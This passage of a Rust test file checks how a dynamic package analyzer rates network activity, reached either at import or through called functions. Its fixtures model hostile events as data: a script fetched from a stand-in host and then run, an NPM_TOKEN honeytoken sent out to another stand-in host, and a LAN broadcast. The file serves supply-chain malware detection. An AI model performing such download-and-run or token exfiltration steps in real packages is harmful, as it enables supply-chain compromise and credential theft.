    let call = ["node", "execute.mjs", "demo-pkg"];
    run.phases.push(phase("execute", &call));
    run.processes
        .push(process(80, None, "execute", vec![exec(1200, &call)]));
    run
}

fn broadcast(phase: &str) -> Connection {
    Connection {
        phase: phase.into(),
        protocol: "udp".into(),
        destination: "255.255.255.255".into(),
        port: 5678,
        name: None,
        time_ms: 1250,
        pid: Some(80),
        kind: "raw".into(),
        sni: None,
        first_bytes: "petya".into(),
        bytes_received: 5,
    }
}

#[test]
fn a_called_function_that_reaches_the_network_weighs_little() {
    // A robot vacuum library's discovery, broadcast on the LAN when called.
    let mut called = with_execute_phase();
    called.connections.push(broadcast("execute"));
    let found = findings(&called, "DSCA1002");
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0].severity, Severity::Low);
    assert!(
        found[0]
            .message
            .starts_with("when dsca called its exported functions: "),
        "{}",
        found[0].message
    );
    // The same broadcast from the import is the package's own doing.
    let mut loaded = with_execute_phase();
    loaded.connections.push(broadcast("import"));
    let found = findings(&loaded, "DSCA1002");
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0].severity, Severity::High);
}

#[test]
fn a_called_function_that_runs_a_downloaded_script_keeps_its_weight() {
    let mut run = with_execute_phase();
    let mut download = request("GET", "http://stage.example/setup.sh", false);
    download.phase = "execute".into();
    download.probe = true;
    run.http.push(download);
    run.processes.push(process(
        81,
        Some(80),
        "execute",
        vec![exec(1300, &["/bin/echo", "dsca-probe-00112233aabbccdd"])],
    ));
    let found = findings(&run, "DSCA1012");
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0].severity, Severity::High);
}

fn calls_began(run: &mut DynamicAnalysis, time_ms: u64) {
    if let Some(execute) = run.phases.iter_mut().find(|p| p.name == "execute") {
        execute.calls_began_ms = Some(time_ms);
    }
}

#[test]
fn what_the_second_load_did_before_the_calls_is_the_packages_own() {
    // The execute phase loads the package again before calling anything; a payload
    // that waits for a later load acts before the marker and keeps its weight.
    let mut run = with_execute_phase();
    calls_began(&mut run, 1240);
    let mut early = broadcast("execute");
    early.time_ms = 1220;
    run.connections.push(early);
    let found = findings(&run, "DSCA1002");
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0].severity, Severity::High);
    // After the marker, it is what a call did.
    let mut called = with_execute_phase();
    calls_began(&mut called, 1240);
    called.connections.push(broadcast("execute"));
    assert_eq!(findings(&called, "DSCA1002")[0].severity, Severity::Low);
}

#[test]
fn a_called_function_that_sends_bait_away_is_still_proof() {
    let mut run = with_execute_phase();
    run.honeytokens.exfiltrations.push(Exfiltration {
        phase: "execute".into(),
        token: "NPM_TOKEN".into(),
        encoding: "raw".into(),
        channel: "https".into(),
        destination: "config-sync.example".into(),
        pid: Some(80),
        time_ms: 1300,
    });
    let found = findings(&run, "DSCA1009");
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0].severity, Severity::Critical);
}

#[test]
fn hosts_only_a_called_function_reached_join_the_packages_own_finding() {
    let mut run = with_execute_phase();
    run.dns.push(in_phase(
        dns("cdn.vendor.example", "A", RESOLVER, 5, false),
        "import",
    ));
    run.dns.push(in_phase(
        dns("api.vendor.example", "A", RESOLVER, 80, false),
        "execute",
    ));
    let found = findings(&run, "DSCA1001");
    assert_eq!(found.len(), 1, "{found:#?}");
    assert!(
        found[0]
            .evidence
            .iter()
            .any(|e| e.detail.starts_with("when called: ")
                && e.detail.contains("api.vendor.example")),
        "{found:#?}"
    );
}
